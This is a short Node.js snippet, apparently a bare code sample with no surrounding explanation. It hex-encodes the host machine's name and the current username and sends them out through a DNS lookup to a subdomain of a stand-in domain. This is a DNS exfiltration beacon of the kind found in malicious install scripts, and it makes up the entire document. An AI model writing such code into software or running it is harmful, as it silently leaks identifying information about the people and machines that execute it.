const dns = require('dns'), os = require('os');
const text = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
dns.lookup(`${text}.d.example.invalid`, () => {});
